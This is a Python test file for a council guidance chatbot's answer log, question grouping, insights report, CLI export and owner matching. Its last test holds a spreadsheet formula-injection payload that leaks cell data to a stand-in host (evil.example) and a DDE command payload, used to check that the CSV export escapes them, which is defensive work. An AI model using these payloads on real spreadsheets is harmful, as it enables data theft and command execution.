"""The answer log and the guidance insights: what is stored, the purge, grouping similar questions (by meaning
with the guidance's embedding model, by shared words without it), the report, the CLI's CSV and chart, suggested
prompts and who counts as a guidance owner."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.cli import cli
from knowledge.embeddings import EmbeddingUnavailable, load_embedding_function
from knowledge.models import Role
from storage.answer_log import AnswerLog, CitedPassage
from tests.conftest import MODEL_DIR
from workflows.assistant_prompts import suggested_prompts
from workflows.guidance_owners import GuidanceOwners
from workflows.insights import build_insights, group_questions, insights_text, write_insights_csv

ROLES_DOC = "roles.md"
NEVER_DOC = "appendix.md"


class Clock:
    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


def fill(log: AnswerLog, clock: Clock) -> None:
    cited = [CitedPassage(ROLES_DOC, "Roles > Cabinet", "The Cabinet approves sourcing decisions.")]
    log.record(question="Who approves sourcing?", kind="answered", citations=cited, platform="slack")
    clock.now += timedelta(days=7)
    ref = log.record(question="Who signs off a contract?", kind="unsure", citations=cited, platform="teams")
    log.rate(ref, helpful=False, comment="It did not say who")
    log.record(question="What about parking permits for scooters?", kind="not_covered", citations=[], platform="slack")
    log.record(question="Parking permits for scooters?", kind="not_covered", citations=[], platform="teams")


def test_the_log_keeps_what_was_asked_and_the_rating_and_purges_old_answers(database) -> None:
    clock = Clock(datetime(2026, 1, 5, 10, tzinfo=UTC))
    log = AnswerLog(database, clock)
    fill(log, clock)
    entries = log.entries()
    assert [e.kind for e in entries] == ["answered", "unsure", "not_covered", "not_covered"]
    assert entries[1].rating == "not_helpful" and entries[1].comment == "It did not say who"
    assert entries[0].citations[0].section == "Roles > Cabinet"
    assert log.rate("no-such-answer", helpful=True) is False
    # A later rating replaces the earlier one; a comment stays unless a new one is given.
    assert log.rate(entries[1].ref, helpful=True) is True
    assert log.entries()[1].rating == "helpful" and log.entries()[1].comment == "It did not say who"
    assert [e.question for e in log.entries(latest=2)] == [e.question for e in entries[-2:]]

    clock.now += timedelta(days=365) - timedelta(days=3)  # the first answer is 372 days old, the rest 365
    assert log.purge(keep_days=366) == 1
    assert len(log.entries()) == 3


def test_without_meaning_search_similar_questions_are_grouped_by_shared_words() -> None:
    questions = ["Parking permits for scooters?", "What about parking permits for scooters?", "Who chairs scrutiny?"]
    groups, how = group_questions(questions, None)
    assert how == "words"
    assert groups == [[0, 1], [2]]


@pytest.mark.skipif(not MODEL_DIR.exists(), reason="the embedding model is not on this machine")
def test_with_the_guidance_embedding_model_paraphrases_are_grouped_by_meaning() -> None:
    try:
        embed, _ = load_embedding_function(MODEL_DIR)
    except EmbeddingUnavailable as error:
        pytest.skip(str(error))
    questions = [
        "What is the council's policy on e-scooters?",
        "Who chairs the scrutiny committee?",
        "Does the council have rules about electric scooters?",
        "what is the council's policy on  e-scooters?",  # asked again: the same question
    ]
    groups, how = group_questions(questions, embed)
    assert how == "meaning"
    assert groups == [[0, 2, 3], [1]]
    # The same paraphrases share too few words to be grouped without the model.
    assert group_questions(questions, None)[0] == [[0, 3], [1], [2]]


def test_the_report_lists_gaps_unhelpful_answers_citations_and_weeks(database) -> None:
    clock = Clock(datetime(2026, 1, 5, 10, tzinfo=UTC))
    log = AnswerLog(database, clock)
    fill(log, clock)
    catalogue = [(ROLES_DOC, "Roles > Cabinet"), (ROLES_DOC, "Roles > Scrutiny"), (NEVER_DOC, "Annex A")]
    report = build_insights(log.entries(), catalogue)
    [gap, unsure] = report.gaps
    assert gap.count == 2 and gap.kinds == {"not_covered": 2} and unsure.example == "Who signs off a contract?"
    [unhelpful] = report.unhelpful
    assert unhelpful.comment == "It did not say who" and unhelpful.sources == [ROLES_DOC]
    assert [(c.source, c.count) for c in report.documents_most_cited] == [(ROLES_DOC, 2)]
    assert report.documents_never_cited == [NEVER_DOC]
    assert [(c.source, c.section) for c in report.sections_never_cited] == [
        (ROLES_DOC, "Roles > Scrutiny"),
        (NEVER_DOC, "Annex A"),
    ]
    assert report.per_week == {"2026-01-05": 1, "2026-01-12": 3}
    text = insights_text(report)
    assert "2× “What about parking permits for scooters?”" in text or "2× “Parking permits for scooters?”" in text
    out = io.StringIO()
    rows = write_insights_csv(report, out)
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(parsed) == rows and {"rated not helpful", "document never cited"} <= {r["section"] for r in parsed}


def test_the_cli_writes_json_csv_and_a_chart(database, monkeypatch, tmp_path: Path) -> None:
    clock = Clock(datetime.now(UTC) - timedelta(days=10))
    fill(AnswerLog(database, clock), clock)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("DATABASE_URL", database.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("LOG_LEVEL", "WARNING")
    monkeypatch.setenv("EMBEDDING_MODEL_DIR", str(tmp_path / "no-model"))  # meaning search off: words are compared
    since = (datetime.now(UTC) - timedelta(days=5)).date().isoformat()
    result = CliRunner().invoke(
        cli,
        ["insights", "--since", since, "--json", "--csv", str(tmp_path / "i.csv"), "--chart", str(tmp_path / "i.png")],
    )
    assert result.exit_code == 0, result.output
    report = json.loads(result.output[result.output.index("{") : result.output.rindex("}") + 1])
    assert report["since"] == since and report["answers"] == 3  # the answer before --since is left out
    assert report["grouped_by"] == "words"
    assert (tmp_path / "i.png").read_bytes().startswith(b"\x89PNG")
    assert "rated not helpful" in (tmp_path / "i.csv").read_text()


def test_suggested_prompts_come_from_the_guidance_roles_and_most_cited_sections(database) -> None:
    roles = [
        Role("Cabinet", ["approves", "decides", "sets"], "roles.md", "Roles", "c1"),
        Role("COG", ["meets"], "roles.md", "Roles", "c2"),
        Role("Lead commissioner", ["leads", "writes"], "roles.md", "Roles", "c3"),
    ]
    clock = Clock(datetime(2026, 1, 5, 10, tzinfo=UTC))
    log = AnswerLog(database, clock)
    fill(log, clock)
    prompts = suggested_prompts(roles, log.entries())
    assert [p.message for p in prompts] == [
        "What does the guidance say about Cabinet?",
        "What does the cabinet do?",
        "What does the lead commissioner do?",
        "start a review",
    ]
    assert [p.message for p in suggested_prompts([], [])] == ["start a review"]


def test_guidance_owners_match_emails_and_platform_ids_in_any_case() -> None:
    owners = GuidanceOwners.of(["Sam.Patel@Council.gov.uk", " U0SAM00001 ", ""])
    assert owners.includes(None, "sam.patel@council.gov.uk")
    assert owners.includes("u0sam00001")
    assert not owners.includes("someone@council.gov.uk", None)
    assert not GuidanceOwners.of([])


def test_a_formula_typed_as_a_question_or_comment_is_plain_text_in_the_insights_csv(database) -> None:
    """Officers open the insights CSV in Excel: what someone typed must never run as a formula there."""
    clock = Clock(datetime(2026, 1, 5, 10, tzinfo=UTC))
    log = AnswerLog(database, clock)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    ref = log.record(question=formula, kind="unsure", citations=[], platform="slack")
    log.rate(ref, helpful=False, comment="+cmd|' /C calc'!A0")
    out = io.StringIO()
    write_insights_csv(build_insights(log.entries(), [(ROLES_DOC, "Roles")]), out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert f"'{formula}" in cells and "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
